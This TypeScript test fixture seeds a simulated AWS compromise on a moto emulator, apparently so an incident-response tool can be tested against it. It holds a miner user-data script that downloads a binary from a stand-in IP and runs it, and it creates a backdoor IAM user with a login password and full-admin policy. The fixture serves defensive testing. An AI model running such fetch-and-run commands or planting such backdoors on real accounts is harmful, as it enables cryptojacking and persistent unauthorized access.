/**
 * The attack, built on a live moto server: an attacker IAM user whose access key
 * launched miners in three regions — one in an Auto Scaling group (us-east-1), one behind a
 * load balancer with an Elastic IP and an instance profile (us-east-1), one with two ENIs
 * (eu-west-1), one from a persistent Spot request (ap-southeast-2) — plus a key pair and an
 * AMI per region and a backdoor user with a key, a login profile and policies. Each region's
 * VPC also gets the isolation and transition groups the stacks deploy, except eu-west-1,
 * where irctl must create them itself.
 */
import { AutoScalingClient, CreateAutoScalingGroupCommand } from '@aws-sdk/client-auto-scaling';
import {
  AllocateAddressCommand,
  AssociateAddressCommand,
  AuthorizeSecurityGroupIngressCommand,
  CreateImageCommand,
  CreateKeyPairCommand,
  CreateLaunchTemplateCommand,
  CreateSecurityGroupCommand,
  CreateSubnetCommand,
  CreateVpcCommand,
  EC2Client,
  RequestSpotInstancesCommand,
  RevokeSecurityGroupEgressCommand,
  RunInstancesCommand,
  DescribeSpotInstanceRequestsCommand,
  DescribeInstancesCommand,
  ModifyInstanceAttributeCommand,
  ModifyNetworkInterfaceAttributeCommand,
} from '@aws-sdk/client-ec2';
import { CreateTargetGroupCommand, ElasticLoadBalancingV2Client, RegisterTargetsCommand } from '@aws-sdk/client-elastic-load-balancing-v2';
import {
  AddRoleToInstanceProfileCommand,
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateInstanceProfileCommand,
  CreateLoginProfileCommand,
  CreatePolicyCommand,
  CreateRoleCommand,
  CreateUserCommand,
  IAMClient,
  PutUserPolicyCommand,
} from '@aws-sdk/client-iam';
import { DescribeAutoScalingGroupsCommand } from '@aws-sdk/client-auto-scaling';
import { MANAGED_BY, SECURITY_GROUPS, TAGS } from '../shared/names';
import { MOTO_CREDENTIALS } from './moto';

/** moto's default account. */
export const SCENARIO_ACCOUNT = '123456789012';
/** Regions the attacker used. */
export const SCENARIO_REGIONS = ['us-east-1', 'eu-west-1', 'ap-southeast-2'] as const;

/** IDs of everything the scenario created. */
export interface AttackScenario {
  readonly attackerUser: string;
  readonly attackerKeyId: string;
  readonly backdoorUser: string;
  readonly backdoorKeyId: string;
  readonly instanceRole: string;
  /** Every attacker instance, with its region. */
  readonly instances: ReadonlyArray<{ readonly region: string; readonly instanceId: string; readonly kind: 'plain' | 'asg' | 'two-eni' | 'spot' }>;
  readonly asgName: string;
  readonly targetGroupArn: string;
  readonly allocationId: string;
  readonly spotRequestId: string;
  readonly keyPairs: ReadonlyArray<{ readonly region: string; readonly name: string }>;
  readonly images: ReadonlyArray<{ readonly region: string; readonly imageId: string }>;
  readonly vpcs: Readonly<Record<string, string>>;
}

const MINER_USERDATA = '#!/bin/bash\ncurl -s http://203.0.113.9/xmrig -o /tmp/x && chmod +x /tmp/x && /tmp/x -o pool.example:3333\n';
const AMI = 'ami-12c6146b'; // present in moto's default AMI set in every region

function clientConfig(endpoint: string, region: string) {
  return { endpoint, region, credentials: MOTO_CREDENTIALS };
}

/** Build the scenario; `deployGroups: false` for regions where the stacks' groups are absent. */
export async function seedAttack(endpoint: string): Promise<AttackScenario> {
  const iam = new IAMClient(clientConfig(endpoint, 'us-east-1'));
  const attackerUser = 'ci-deploy';
  await iam.send(new CreateUserCommand({ UserName: attackerUser }));
  const attackerKeyId = (await iam.send(new CreateAccessKeyCommand({ UserName: attackerUser }))).AccessKey!.AccessKeyId!;
  const backdoorUser = 'support-admin';
  await iam.send(new CreateUserCommand({ UserName: backdoorUser }));
  const backdoorKeyId = (await iam.send(new CreateAccessKeyCommand({ UserName: backdoorUser }))).AccessKey!.AccessKeyId!;
  await iam.send(new CreateLoginProfileCommand({ UserName: backdoorUser, Password: 'Backdoor-Passw0rd!' }));
  await iam.send(new PutUserPolicyCommand({ UserName: backdoorUser, PolicyName: 'admin', PolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }) }));
  const managed = await iam.send(new CreatePolicyCommand({ PolicyName: 'support-tools', PolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'ec2:*', Resource: '*' }] }) }));
  await iam.send(new AttachUserPolicyCommand({ UserName: backdoorUser, PolicyArn: managed.Policy!.Arn! }));
  const instanceRole = 'miner-node';
  await iam.send(new CreateRoleCommand({ RoleName: instanceRole, AssumeRolePolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }] }) }));
  await iam.send(new CreateInstanceProfileCommand({ InstanceProfileName: instanceRole }));
  await iam.send(new AddRoleToInstanceProfileCommand({ InstanceProfileName: instanceRole, RoleName: instanceRole }));

  const instances: Array<AttackScenario['instances'][number]> = [];
  const keyPairs: Array<{ region: string; name: string }> = [];
  const images: Array<{ region: string; imageId: string }> = [];
  const vpcs: Record<string, string> = {};
  const network: Record<string, { vpcId: string; subnetId: string; workloadSg: string }> = {};
  for (const region of SCENARIO_REGIONS) {
    const ec2 = new EC2Client(clientConfig(endpoint, region));
    const vpcId = (await ec2.send(new CreateVpcCommand({ CidrBlock: '10.20.0.0/16' }))).Vpc!.VpcId!;
    const subnetId = (await ec2.send(new CreateSubnetCommand({ VpcId: vpcId, CidrBlock: '10.20.1.0/24', AvailabilityZone: `${region}a` }))).Subnet!.SubnetId!;
    const workloadSg = (await ec2.send(new CreateSecurityGroupCommand({ VpcId: vpcId, GroupName: 'miner-open', Description: 'attacker: all open' }))).GroupId!;
    await ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId: workloadSg, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] }));
    if (region !== 'eu-west-1') await deployIsolationGroups(ec2, vpcId);
    vpcs[region] = vpcId;
    network[region] = { vpcId, subnetId, workloadSg };
    const keyName = 'miner-key';
    await ec2.send(new CreateKeyPairCommand({ KeyName: keyName }));
    keyPairs.push({ region, name: keyName });
  }

  const run = async (region: string, extra: Record<string, unknown> = {}) => {
    const ec2 = new EC2Client(clientConfig(endpoint, region));
    const { subnetId, workloadSg } = network[region];
    const out = await ec2.send(
      new RunInstancesCommand({
        ImageId: AMI,
        InstanceType: 'p3.2xlarge',
        MinCount: 1,
        MaxCount: 1,
        KeyName: 'miner-key',
        UserData: Buffer.from(MINER_USERDATA).toString('base64'),
        ...(extra.NetworkInterfaces ? {} : { SubnetId: subnetId, SecurityGroupIds: [workloadSg] }),
        ...extra,
      }),
    );
    return out.Instances![0].InstanceId!;
  };

  // us-east-1: a plain miner with profile, EIP and a load balancer registration.
  const east = new EC2Client(clientConfig(endpoint, 'us-east-1'));
  const plain = await run('us-east-1', { IamInstanceProfile: { Name: instanceRole } });
  instances.push({ region: 'us-east-1', instanceId: plain, kind: 'plain' });
  const allocationId = (await east.send(new AllocateAddressCommand({ Domain: 'vpc' }))).AllocationId!;
  await east.send(new AssociateAddressCommand({ AllocationId: allocationId, InstanceId: plain }));
  const elb = new ElasticLoadBalancingV2Client(clientConfig(endpoint, 'us-east-1'));
  const targetGroupArn = (await elb.send(new CreateTargetGroupCommand({ Name: 'miner-tg', Protocol: 'HTTP', Port: 80, VpcId: network['us-east-1'].vpcId, TargetType: 'instance' }))).TargetGroups![0].TargetGroupArn!;
  await elb.send(new RegisterTargetsCommand({ TargetGroupArn: targetGroupArn, Targets: [{ Id: plain, Port: 80 }] }));
  images.push({ region: 'us-east-1', imageId: (await east.send(new CreateImageCommand({ InstanceId: plain, Name: 'miner-image' }))).ImageId! });

  // us-east-1: an Auto Scaling group keeping one miner alive.
  await east.send(
    new CreateLaunchTemplateCommand({
      LaunchTemplateName: 'miner-lt',
      LaunchTemplateData: { ImageId: AMI, InstanceType: 'p3.2xlarge', KeyName: 'miner-key', SecurityGroupIds: [network['us-east-1'].workloadSg] },
    }),
  );
  const asgName = 'miner-asg';
  const autoscaling = new AutoScalingClient(clientConfig(endpoint, 'us-east-1'));
  await autoscaling.send(
    new CreateAutoScalingGroupCommand({
      AutoScalingGroupName: asgName,
      LaunchTemplate: { LaunchTemplateName: 'miner-lt', Version: '$Latest' },
      MinSize: 1,
      MaxSize: 3,
      DesiredCapacity: 1,
      VPCZoneIdentifier: network['us-east-1'].subnetId,
    }),
  );
  const asgInstance = (await autoscaling.send(new DescribeAutoScalingGroupsCommand({ AutoScalingGroupNames: [asgName] }))).AutoScalingGroups![0].Instances![0].InstanceId!;
  instances.push({ region: 'us-east-1', instanceId: asgInstance, kind: 'asg' });

  // eu-west-1: two ENIs, in a VPC without the stacks' groups.
  const { subnetId: euSubnet, workloadSg: euSg } = network['eu-west-1'];
  const twoEni = await run('eu-west-1', {
    NetworkInterfaces: [
      { DeviceIndex: 0, SubnetId: euSubnet, Groups: [euSg] },
      { DeviceIndex: 1, SubnetId: euSubnet, Groups: [euSg] },
    ],
  });
  instances.push({ region: 'eu-west-1', instanceId: twoEni, kind: 'two-eni' });
  images.push({ region: 'eu-west-1', imageId: (await new EC2Client(clientConfig(endpoint, 'eu-west-1')).send(new CreateImageCommand({ InstanceId: twoEni, Name: 'miner-image' }))).ImageId! });

  // ap-southeast-2: a persistent Spot request (moto fulfils it at once).
  const apse = new EC2Client(clientConfig(endpoint, 'ap-southeast-2'));
  const spot = await apse.send(
    new RequestSpotInstancesCommand({
      InstanceCount: 1,
      Type: 'persistent',
      SpotPrice: '3.00',
      LaunchSpecification: { ImageId: AMI, InstanceType: 'p3.2xlarge', KeyName: 'miner-key', SubnetId: network['ap-southeast-2'].subnetId, SecurityGroupIds: [network['ap-southeast-2'].workloadSg] },
    }),
  );
  const spotRequestId = spot.SpotInstanceRequests![0].SpotInstanceRequestId!;
  const fulfilled = (await apse.send(new DescribeSpotInstanceRequestsCommand({ SpotInstanceRequestIds: [spotRequestId] }))).SpotInstanceRequests![0];
  if (!fulfilled.InstanceId) throw new Error(`moto did not fulfil Spot request ${spotRequestId}; the scenario needs its instance`);
  instances.push({ region: 'ap-southeast-2', instanceId: fulfilled.InstanceId, kind: 'spot' });

  for (const { region, instanceId } of instances) await normalizeMotoGroups(new EC2Client(clientConfig(endpoint, region)), instanceId);
  return { attackerUser, attackerKeyId, backdoorUser, backdoorKeyId, instanceRole, instances, asgName, targetGroupArn, allocationId, spotRequestId, keyPairs, images, vpcs };
}

/** The groups `stacks/` deploys in each workload VPC (tagged, deterministic names). */
export async function deployIsolationGroups(ec2: EC2Client, vpcId: string): Promise<void> {
  for (const purpose of ['isolation', 'transition'] as const) {
    const groupId = (
      await ec2.send(
        new CreateSecurityGroupCommand({
          VpcId: vpcId,
          GroupName: SECURITY_GROUPS[purpose],
          Description: `ir ${purpose}`,
          TagSpecifications: [{ ResourceType: 'security-group', Tags: [{ Key: TAGS.isolationRole, Value: purpose }, { Key: TAGS.managedBy, Value: MANAGED_BY }] }],
        }),
      )
    ).GroupId!;
    if (purpose === 'isolation') {
      await ec2.send(new RevokeSecurityGroupEgressCommand({ GroupId: groupId, IpPermissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] }));
    } else {
      await ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId: groupId, IpPermissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }], Ipv6Ranges: [{ CidrIpv6: '::/0' }] }] }));
    }
  }
}

/**
 * moto divergence: it reports an attached ENI's groups as the union of the ENI's own groups and
 * the instance's launch groups, where AWS reports only the ENI's. Left alone, a per-ENI move
 * to the isolation group would still show the launch group. A ModifyInstanceAttribute without
 * attributes makes moto clear its instance-level list (AWS would reject it; fixture only), so
 * the emulator then reports the ENI groups as AWS does.
 */
export async function normalizeMotoGroups(ec2: EC2Client, instanceId: string): Promise<void> {
  const before = (await ec2.send(new DescribeInstancesCommand({ InstanceIds: [instanceId] }))).Reservations![0].Instances![0];
  await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: instanceId }));
  for (const eni of before.NetworkInterfaces ?? []) {
    const groups = (eni.Groups ?? []).map((g) => g.GroupId!);
    await ec2.send(new ModifyNetworkInterfaceAttributeCommand({ NetworkInterfaceId: eni.NetworkInterfaceId, Groups: groups }));
  }
}
